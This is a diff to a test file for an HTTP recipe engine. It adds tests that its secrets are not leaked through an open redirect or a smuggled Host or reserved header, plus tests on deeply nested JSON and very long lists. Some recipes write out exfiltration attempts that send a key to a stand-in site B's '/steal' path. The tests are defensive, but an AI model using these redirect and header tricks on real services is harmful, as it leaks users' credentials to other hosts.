@@ -7,6 +7,8 @@ import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createRecipeRunner, type RecipeRunner, type RunContext } from '../activities/engines/index.ts';
+import { HttpDriver, createHttpDispatcher } from '../activities/engines/http-engine.ts';
+import { Interpreter, makeUrlCheck } from '../activities/engines/interpreter.ts';
 import { ServiceError } from '../shared/errors.ts';
 import { isFinalRefusal, redact, secretSpellings } from '../activities/engines/errors.ts';
 import type { Recipe } from '../shared/recipes/schema.ts';
@@ -17,6 +19,8 @@ const SITE_A = 'site-a.example.test';
 const SITE_B = 'site-b.example.test';
 let server: http.Server;
 let runner: RecipeRunner;
+/** The engines' host map: every test host to the server. */
+let hostMap: Record<string, string>;
 /** Every request the server received: host, URL, headers and body as they arrived. */
 const received: Array<{ host: string; text: string }> = [];
 
@@ -122,6 +126,13 @@ beforeAll(async () => {
     if (req.url === '/deep-json') return void res.writeHead(200, { 'content-type': 'application/json' }).end(`{"list":${'['.repeat(20_000)}1${']'.repeat(20_000)}}`);
     if (req.url === '/many') return void res.writeHead(200, { 'content-type': 'application/json' }).end(`[${'0,'.repeat(2_000_000)}0]`);
     if (req.url === '/bad-redirect') return void res.writeHead(302, { location: 'http://[::1' }).end();
+    // 200,000 items on one page: past the arguments limit of a spread (push(...list)).
+    if (req.url === '/long-list') return void res.writeHead(200, { 'content-type': 'application/json' }).end(`[${'0,'.repeat(199_999)}0]`);
+    if (req.url?.startsWith('/go?')) {
+      // An open redirect: the site sends the client wherever `to` says (a sign-in page's "return to").
+      const to = new URL(req.url, 'http://x').searchParams.get('to') ?? '/';
+      return void res.writeHead(302, { location: new URL(to).href }).end();
+    }
     if (req.url === '/form') return void res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>Form</title><form action="/sent" method="post"><input name="q" id="q"></form>');
     if (req.url === '/later-b') {
       // A page of site A with no field yet that sends the browser on to site B a moment later (a
@@ -171,7 +182,8 @@ beforeAll(async () => {
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   const to = `127.0.0.1:${(server.address() as AddressInfo).port}`;
-  runner = createRecipeRunner({ hostMap: { [HOST]: to, [SITE_A]: to, [SITE_B]: to, [`api.${SITE_A}`]: to, [`${SITE_A}.${SITE_B}`]: to } });
+  hostMap = { [HOST]: to, [SITE_A]: to, [SITE_B]: to, [`api.${SITE_A}`]: to, [`${SITE_A}.${SITE_B}`]: to };
+  runner = createRecipeRunner({ hostMap });
 });
 afterAll(async () => {
   await runner?.close();
@@ -413,6 +425,30 @@ describe("a connection's secret goes only to its site", () => {
         { type: 'request', url: `http://${SITE_B}/b`, headers: { 'x-note': '{{vars.echo.basic}}' }, parse: 'json', save_as: 'b' },
       ],
     ],
+    // A site with an open redirect sends the engine on with whatever the request told it to: each
+    // hop is checked like the request itself, on its URL, before it is sent.
+    [
+      "through site A's open redirect, in the URL site A redirects to",
+      [{ type: 'request', url: `http://${SITE_A}/go`, query: { to: `http://${SITE_B}/steal?k={{secrets.A_KEY}}` }, parse: 'json', save_as: 'b' }],
+    ],
+    [
+      "in a piece cut out by an extraction pattern, through site A's open redirect",
+      [
+        { type: 'set', var: 's', value: '{{secrets.A_KEY}}' },
+        { type: 'extract', from: { var: 's' }, fields: { head: { type: 'text', pattern: '^(.{6})' } }, save_as: 'p' },
+        { type: 'request', url: `http://${SITE_A}/go`, query: { to: `http://${SITE_B}/steal?k={{vars.p.head}}` }, parse: 'json', save_as: 'b' },
+      ],
+    ],
+    [
+      // Site A had a piece of it before: where it redirects may hold it, as any answer read after may.
+      'by a redirect site A chose after the run had sent it a piece of the key',
+      [
+        { type: 'set', var: 's', value: '{{secrets.A_KEY}}' },
+        { type: 'extract', from: { var: 's' }, fields: { head: { type: 'text', pattern: '^(.{6})' } }, save_as: 'p' },
+        { type: 'request', url: `http://${SITE_A}/reflect?q={{vars.p.head}}`, parse: 'json', save_as: 'r' },
+        { type: 'request', url: `http://${SITE_A}/go`, query: { to: `http://${SITE_B}/b` }, parse: 'json', save_as: 'b' },
+      ],
+    ],
     [
       'as a URL built in a variable',
       [
@@ -508,6 +544,16 @@ describe("a connection's secret goes only to its site", () => {
       ],
     ],
   ];
+  it('a redirect from site A to site B carrying no key goes on, and the key sent to site A in a header stays behind', async () => {
+    received.length = 0;
+    const e = await run([
+      { type: 'request', url: `http://${SITE_A}/go`, query: { to: `http://${SITE_B}/b?n=1` }, headers: { 'x-api-key': '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'b' },
+    ]);
+    expect(e).toBeNull();
+    expect(received.map((r) => r.host)).toEqual([SITE_A, SITE_B]);
+    expect(leakedToB()).toEqual([]);
+  });
+
   it('a value read from site A by extraction still goes to site A, and clean values to site B', async () => {
     received.length = 0;
     const e = await run([
@@ -631,6 +677,55 @@ describe("a connection's secret goes only to its site", () => {
   }
 });
 
+describe("a recipe never names the site its request goes to in a header", () => {
+  // Sites on one CDN share its addresses; the CDN tells them apart by Host (and TLS's server name,
+  // which undici takes from a Host header too). Here both sites are the one server, as on a CDN.
+  const KEY = 'key-for-site-a-4';
+  const steal = (headers: Record<string, string>): Recipe => ({
+    engine: 'http',
+    hosts: [SITE_A],
+    secrets: ['KEY'],
+    steps: [{ type: 'request', url: `http://${SITE_A}/a`, headers: { ...headers, 'x-api-key': '{{secrets.KEY}}' }, parse: 'json', save_as: 'a' }],
+    output: { ok: true },
+  });
+  const runCtx = (): RunContext => ({ ...ctx(), secrets: { KEY }, secretSites: { KEY: SITE_A } });
+
+  it('a recipe setting Host is refused when it is validated, naming the header', async () => {
+    received.length = 0;
+    const e = await runner.run(steal({ Host: SITE_B }), {}, runCtx()).then(
+      () => null,
+      (err: ServiceError) => err,
+    );
+    expect(e?.code).toBe('internal_error');
+    expect((e?.details as { issues: Array<{ path: string }> }).issues.map((i) => i.path)).toEqual(['steps[0].headers.Host']);
+    expect(received).toEqual([]);
+  });
+
+  // A version stored before the rule reaches the engine unvalidated by it: the engine refuses it too.
+  const reserved = ['Host', 'host', 'Connection', 'Transfer-Encoding', 'TE', 'Trailer', 'Upgrade', 'Keep-Alive', 'Content-Length', 'Expect', 'Proxy-Authorization'];
+  for (const name of reserved) {
+    it(`a stored recipe sending ${name} is refused before anything is sent, final`, async () => {
+      received.length = 0;
+      const recipe = steal({ [name]: name.toLowerCase() === 'host' ? SITE_B : name.toLowerCase() === 'content-length' ? '0' : 'x' });
+      const signal = AbortSignal.timeout(30_000);
+      const dispatcher = createHttpDispatcher({ hostMap });
+      const driver = new HttpDriver(dispatcher, makeUrlCheck(recipe.hosts));
+      const e = await new Interpreter(recipe, driver, {}, { ...runCtx(), signal }, signal)
+        .run()
+        .then(
+          () => null,
+          (err: ServiceError) => err,
+        )
+        .finally(() => dispatcher.close());
+      expect(e).toBeInstanceOf(ServiceError);
+      expect(e!.code).toBe('workflow_execution_failed');
+      expect(e!.details).toEqual({ step: '0', header: name.toLowerCase(), reason: 'header_not_allowed' });
+      expect(isFinalRefusal(e!)).toBe(true);
+      expect(received).toEqual([]);
+    });
+  }
+});
+
 describe('a secret a website echoes back never reaches the caller', () => {
   it('is redacted from the output when the site upper-cased it or put it inside a base64 credential', async () => {
     const KEY = 'p@ss-word-for-a';
@@ -713,6 +808,75 @@ describe('a broken answer is the website\'s failure, never ours', () => {
       { ...ctx(), secrets: { KEY: 'key_for_site_a_3' }, secretSites: { KEY: SITE_A } },
     );
     expect(out).toBe(2_000_001);
+  });
+
+  // Lists are appended item by item: a spread of 130,000 or more is past the arguments limit.
+  for (const cumulative of [false, true]) {
+    it(`a pagination collecting a page of 200,000 items keeps its limit's worth${cumulative ? ' (cumulative)' : ''}, not internal_error`, async () => {
+      const { result, error } = await timed({
+        engine: 'http',
+        hosts: [HOST],
+        steps: [
+          {
+            type: 'paginate',
+            steps: [{ type: 'request', url: `http://${HOST}/long-list`, parse: 'json', save_as: 'page' }],
+            collect: 'page',
+            save_as: 'all',
+            limit: 10_000,
+            ...(cumulative ? { cumulative } : {}),
+            next: { kind: 'counter' },
+          },
+        ],
+        output: { n: '{{vars.all.length}}' },
+      });
+      expect(error).toBeUndefined();
+      expect(result).toEqual({ n: 10_000 });
+    });
+  }
+
+  // JSON.parse reads JSON nested 20,000 deep; JSON.stringify cannot write it. A recipe writing it
+  // into text, a JSON body or a query fails on that value, in the step that writes it.
+  const writes: Array<[string, Recipe['steps'][number]]> = [
+    ['into a string', { type: 'set', var: 's', value: 'list: {{vars.d.list}}' }],
+    ['as a JSON body', { type: 'request', method: 'POST', url: `http://${HOST}/b`, json: { list: '{{vars.d.list}}' }, save_as: 'b' }],
+    ['into a query', { type: 'request', url: `http://${HOST}/b`, query: { list: '{{vars.d.list}}' }, save_as: 'b' }],
+    ['into a form', { type: 'request', method: 'POST', url: `http://${HOST}/b`, form: { list: '{{vars.d.list}}' }, save_as: 'b' }],
+  ];
+  for (const [how, write] of writes) {
+    it(`a document nested 20,000 deep written ${how} is value_too_large in that step, not internal_error`, async () => {
+      received.length = 0;
+      const { error } = await timed({
+        engine: 'http',
+        hosts: [HOST],
+        steps: [{ type: 'request', url: `http://${HOST}/deep-json`, parse: 'json', save_as: 'd' }, write],
+        output: null,
+      });
+      expect(error?.code).toBe('workflow_execution_failed');
+      expect(error?.details).toEqual({ step: '1', reason: 'value_too_large' });
+      expect(received.map((r) => r.text.split(' ')[0])).toEqual(['/deep-json']);
+    });
+  }
+
+  it("a pagination's own stop condition that cannot write its value names the pagination, not its last inner step", async () => {
+    const { error } = await timed({
+      engine: 'http',
+      hosts: [HOST],
+      steps: [
+        { type: 'request', url: `http://${HOST}/deep-json`, parse: 'json', save_as: 'd' },
+        {
+          type: 'paginate',
+          steps: [{ type: 'set', var: 'page', value: ['item'] }],
+          collect: 'page',
+          save_as: 'all',
+          limit: 5,
+          stop: { url_contains: 'x{{vars.d.list}}' },
+          next: { kind: 'counter' },
+        },
+      ],
+      output: null,
+    });
+    expect(error?.code).toBe('workflow_execution_failed');
+    expect(error?.details).toEqual({ step: '1', reason: 'value_too_large' });
   });
 
   it('a redirect to a URL that cannot be parsed is upstream_http_error (invalid_redirect), not internal_error', async () => {
